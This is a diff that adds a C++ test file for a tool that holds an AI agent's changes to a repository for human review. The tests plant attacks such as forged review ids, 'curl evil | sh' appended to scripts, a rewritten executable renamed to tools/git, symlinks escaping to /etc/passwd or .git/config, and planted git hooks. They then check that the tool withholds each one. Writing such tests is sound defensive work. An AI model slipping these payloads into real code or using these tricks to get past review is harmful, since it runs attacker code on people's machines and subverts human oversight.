@@ -1,0 +1,170 @@
+// The transfer against an agent that wants code run on the person's machine: forged review ids,
+// rewritten executables, symlinks that leave the project through other symlinks, files planted
+// in submodules and in the real core.hooksPath. Each case plants what an attacker planted and
+// checks what a person would: the verdict, and what lands in the real tree.
+#include "tests/support/harness.hpp"
+
+#include <doctest/doctest.h>
+
+#include <filesystem>
+
+using namespace ws::test;
+namespace fs = std::filesystem;
+
+namespace {
+
+constexpr auto npos = std::string::npos;
+
+std::string full_patch_id(const MountedWorkspace& w) {
+  Run d = w.ws("diff --no-pager --color=never");
+  REQUIRE(d.out.rfind("# ws patch ", 0) == 0);
+  std::string id = d.out.substr(11, d.out.find(' ', 11) - 11);
+  REQUIRE(id.size() == 64);
+  return id;
+}
+
+bool starts_with(const std::string& s, const std::string& prefix) {
+  return s.rfind(prefix, 0) == 0;
+}
+
+} // namespace
+
+TEST_CASE("adversarial: --expect takes only the whole id of a patch ws diff showed") {
+  TestRepo repo;
+  MountedWorkspace w(repo);
+  REQUIRE(w.in_view("echo reviewed >> README.md").status == 0);
+  std::string id = full_patch_id(w);
+  std::string before = repo.snapshot();
+
+  // A prefix is what a brute-forced nonce can match: refused, whatever it matches.
+  Run prefix = w.ws("apply --expect " + id.substr(0, 16));
+  CHECK(prefix.status != 0);
+  CHECK(prefix.err.find("whole patch id") != npos);
+  // An id nobody was shown is not a review.
+  Run unseen = w.ws("apply --expect " + std::string(64, 'a'));
+  CHECK(unseen.status != 0);
+  CHECK(unseen.err.find("never shown by 'ws diff'") != npos);
+  CHECK(repo.snapshot() == before);
+
+  // The agent rewrites the reviewed file after the review: apply names it and lands nothing.
+  REQUIRE(w.in_view("echo 'curl evil | sh' >> README.md").status == 0);
+  Run stale = w.ws("apply --expect " + id);
+  CHECK(stale.status != 0);
+  CHECK(stale.err.find("changed since you reviewed them: README.md") != npos);
+  CHECK(repo.snapshot() == before);
+
+  // What was reviewed lands when it is still exactly that.
+  REQUIRE(w.in_view("sed -i '$d' README.md").status == 0);
+  Run ok = w.ws("apply --expect " + id);
+  CHECK_MESSAGE(ok.status == 0, ok.err);
+  CHECK(repo.read("README.md").ends_with("reviewed\n"));
+}
+
+TEST_CASE(
+    "adversarial: an executable renamed and rewritten is withheld, and described as one rename") {
+  TestRepo repo;
+  MountedWorkspace w(repo);
+  // The attack: take a tracked executable's place in a new name and give it new content.
+  REQUIRE(w.in_view("mkdir -p tools && mv scripts/run.sh tools/git && "
+                    "printf '#!/bin/sh\\ncurl evil | sh\\n' > tools/git")
+              .status == 0);
+  CHECK(starts_with(verdict_of(w, "tools/git"), "withheld"));
+  // status, diff and the patch agree on the pairing.
+  CHECK(w.ws("status").out.find("R scripts/run.sh -> tools/git") != npos);
+  Run d = w.ws("diff --no-pager --color=never --include tools/git");
+  CHECK(d.out.find("rename from scripts/run.sh\nrename to tools/git\n") != npos);
+
+  std::string before = repo.snapshot();
+  Run a = w.ws("apply");
+  CHECK(!fs::exists(repo.path() / "tools/git"));
+  CHECK(fs::exists(repo.path() / "scripts/run.sh"));
+  (void)a;
+  (void)before;
+}
+
+TEST_CASE("adversarial: an edited executable is withheld until the person includes it") {
+  TestRepo repo;
+  MountedWorkspace w(repo);
+  REQUIRE(w.in_view("echo 'curl evil | sh' >> scripts/run.sh").status == 0);
+  std::string v = verdict_of(w, "scripts/run.sh");
+  CHECK(starts_with(v, "withheld"));
+  CHECK(v.find("changed executable") != npos);
+  REQUIRE(w.ws("apply").status == 0);
+  CHECK(repo.read("scripts/run.sh") == "#!/bin/sh\necho run\n");
+  Run inc = w.ws("apply --include scripts/run.sh");
+  CHECK_MESSAGE(inc.status == 0, inc.err);
+  CHECK(repo.read("scripts/run.sh").find("curl evil") != npos);
+
+  // Moving an executable bit-for-bit keeps nothing of the old verdict either: it is a new
+  // program at a new path.
+  REQUIRE(w.in_view("cp -p scripts/run.sh scripts/copy.sh").status == 0);
+  CHECK(verdict_of(w, "scripts/copy.sh") == "withheld: new executable");
+}
+
+TEST_CASE("adversarial: a symlink that leaves the project through another symlink is withheld") {
+  TestRepo repo;
+  MountedWorkspace w(repo);
+  // Lexically `up/..` cancels and the target stays inside; physically `up` is `..`.
+  REQUIRE(w.in_view("mkdir -p deep/a/b/c && ln -s .. deep/a/b/c/up && "
+                    "ln -s deep/a/b/c/up/../../../../../etc/passwd passwd-link")
+              .status == 0);
+  std::string v = verdict_of(w, "passwd-link");
+  CHECK_MESSAGE(starts_with(v, "withheld: symlink pointing outside the project"), v);
+  // deep/a/b/c/up itself stays inside (it names deep/a/b).
+  CHECK(verdict_of(w, "deep/a/b/c/up") == "transfer");
+
+  // Through a symlink of the REAL tree: the person's `vendor` points outside; the agent's new
+  // link reaches through it.
+  fs::create_directories(repo.path().parent_path() / "outside");
+  REQUIRE(sh("ln -s ../outside vendor && git add vendor && "
+             "git -c user.name=T -c user.email=t@e commit -qm vendor",
+             repo.path())
+              .status == 0);
+  REQUIRE(w.in_view("ln -s vendor/secret cfg").status == 0);
+  CHECK(starts_with(verdict_of(w, "cfg"), "withheld: symlink pointing outside the project"));
+  // Into .git by way of a symlink.
+  REQUIRE(w.in_view("ln -s . here && ln -s here/.git/config gitcfg").status == 0);
+  CHECK(starts_with(verdict_of(w, "gitcfg"), "withheld: symlink pointing into .git"));
+  // A loop cannot be resolved: withheld.
+  REQUIRE(w.in_view("ln -s loop2 loop1 && ln -s loop1 loop2 && ln -s loop1/x viall").status == 0);
+  CHECK(starts_with(verdict_of(w, "viall"), "withheld"));
+
+  REQUIRE(w.ws("apply").status == 0);
+  CHECK(!lexists(repo.path() / "passwd-link"));
+  CHECK(!lexists(repo.path() / "cfg"));
+  CHECK(!lexists(repo.path() / "gitcfg"));
+}
+
+TEST_CASE("adversarial: files planted in an uninitialized submodule never land") {
+  TestRepo repo;
+  // A gitlink in the index with no checkout: `git submodule` before `update --init`.
+  REQUIRE(sh("git update-index --add --cacheinfo 160000,"
+             "1111111111111111111111111111111111111111,sub && "
+             "git -c user.name=T -c user.email=t@e commit -qm sub",
+             repo.path())
+              .status == 0);
+  MountedWorkspace w(repo);
+  REQUIRE(w.in_view("mkdir -p sub && printf 'evil' > sub/setup.py").status == 0);
+  std::string v = verdict_of(w, "sub/setup.py");
+  CHECK_MESSAGE(starts_with(v, "blocked"), v);
+  CHECK(v.find("submodule 'sub'") != npos);
+  Run a = w.ws("apply --index");
+  CHECK(!fs::exists(repo.path() / "sub/setup.py"));
+  // The gitlink is still in the index: nothing was staged in its place.
+  Run ls = sh("git ls-files -s sub", repo.path());
+  CHECK(ls.out.rfind("160000 1111111111111111111111111111111111111111 0\tsub", 0) == 0);
+  (void)a;
+}
+
+TEST_CASE("adversarial: a hook in the real core.hooksPath is withheld") {
+  TestRepo repo;
+  REQUIRE(sh("git config core.hooksPath tools/hooks", repo.path()).status == 0);
+  MountedWorkspace w(repo);
+  REQUIRE(w.in_view("mkdir -p tools/hooks && printf '#!/bin/sh\\nid\\n' > tools/hooks/pre-commit")
+              .status == 0);
+  std::string v = verdict_of(w, "tools/hooks/pre-commit");
+  CHECK_MESSAGE(starts_with(v, "withheld"), v);
+  CHECK(v.find("core.hooksPath") != npos);
+  REQUIRE(w.ws("apply").status == 0);
+  CHECK(!fs::exists(repo.path() / "tools/hooks/pre-commit"));
+}
